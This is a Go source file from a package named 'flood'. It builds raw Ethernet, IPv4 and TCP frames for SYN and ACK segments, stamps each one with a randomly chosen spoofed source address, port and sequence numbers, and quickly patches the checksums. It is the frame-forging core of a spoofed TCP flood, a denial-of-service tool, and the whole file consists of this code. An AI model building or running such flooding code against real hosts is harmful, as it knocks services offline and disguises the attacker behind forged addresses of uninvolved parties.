package flood

import (
	"encoding/binary"
	"math/rand/v2"
	"net"
	"net/netip"
)

// Where things are in a frame.
const (
	ethernetLength = 14
	ipLength       = 20
	tcpAt          = ethernetLength + ipLength
	tcpLength      = 20

	ipIDAt  = ethernetLength + 4
	ipSumAt = ethernetLength + 10
	ipSrcAt = ethernetLength + 12
	ipDstAt = ethernetLength + 16

	tcpSeqAt   = tcpAt + 4
	tcpAckAt   = tcpAt + 8
	tcpFlagsAt = tcpAt + 13
	tcpSumAt   = tcpAt + 16
)

const (
	flagSYN = 0x02
	flagACK = 0x10
)

// synOptions are those of a Linux host: MSS 1460, SACK, timestamp (at 8), scale 7.
var synOptions = []byte{2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7}

// ackOptions are a timestamp and its echo.
var ackOptions = []byte{1, 1, 8, 10, 0, 0, 0, 2, 0, 0, 0, 1}

// template is one kind of segment: a frame that is right but for its source, port and
// numbers, and the sums of all else in it.
type template struct {
	frame         []byte
	ipSum, tcpSum uint32
}

func newTemplate(src, dst net.HardwareAddr, target netip.AddrPort, flags byte) template {
	options := synOptions
	if flags&flagSYN == 0 {
		options = ackOptions
	}
	segment := tcpLength + len(options)
	f := make([]byte, tcpAt+segment)
	copy(f, dst)
	copy(f[6:], src)
	binary.BigEndian.PutUint16(f[12:], 0x0800)
	ip := f[ethernetLength:]
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(ipLength+segment))
	ip[6] = 0x40 // don't fragment
	ip[8], ip[9] = 64, 6
	address := target.Addr().As4()
	copy(f[ipDstAt:], address[:])
	tcp := f[tcpAt:]
	binary.BigEndian.PutUint16(tcp[2:], target.Port())
	tcp[12], tcp[13] = byte(segment/4)<<4, flags
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	copy(tcp[tcpLength:], options)
	// The pseudo header has the destination, the protocol and the length.
	pseudo := add(0, f[ipDstAt:tcpAt]) + 6 + uint32(segment)
	return template{frame: f, ipSum: add(0, f[ethernetLength:tcpAt]), tcpSum: add(pseudo, tcp)}
}

// sender is who a segment pretends to come from, and its numbers.
type sender struct {
	address  uint32
	port, id uint16
	seq, ack uint32
}

// random is a sender within the sources: base with the host bits of mask.
func random(r *rand.Rand, base, mask uint32) sender {
	a, b := r.Uint64(), r.Uint64()
	return sender{
		address: base | uint32(a)&mask,
		port:    1024 + uint16(a>>32)%64512,
		id:      uint16(a >> 48),
		seq:     uint32(b),
		ack:     uint32(b >> 32),
	}
}

// put makes a frame of the template and the sender. The frame must have begun as a copy
// of the template's.
func (t *template) put(f []byte, s sender) {
	if f[tcpFlagsAt]&flagSYN != 0 {
		s.ack = 0
	} else {
		s.seq++ // behind the SYN
	}
	binary.BigEndian.PutUint16(f[ipIDAt:], s.id)
	binary.BigEndian.PutUint32(f[ipSrcAt:], s.address)
	binary.BigEndian.PutUint16(f[tcpAt:], s.port)
	binary.BigEndian.PutUint32(f[tcpSeqAt:], s.seq)
	binary.BigEndian.PutUint32(f[tcpAckAt:], s.ack)
	address := s.address>>16 + s.address&0xffff
	numbers := s.seq>>16 + s.seq&0xffff + s.ack>>16 + s.ack&0xffff
	binary.BigEndian.PutUint16(f[ipSumAt:], fold(t.ipSum+address+uint32(s.id)))
	binary.BigEndian.PutUint16(f[tcpSumAt:], fold(t.tcpSum+address+uint32(s.port)+numbers))
}

// add sums words up; b has an even length.
func add(sum uint32, b []byte) uint32 {
	for ; len(b) >= 2; b = b[2:] {
		sum += uint32(binary.BigEndian.Uint16(b))
	}
	return sum
}

func fold(sum uint32) uint16 {
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
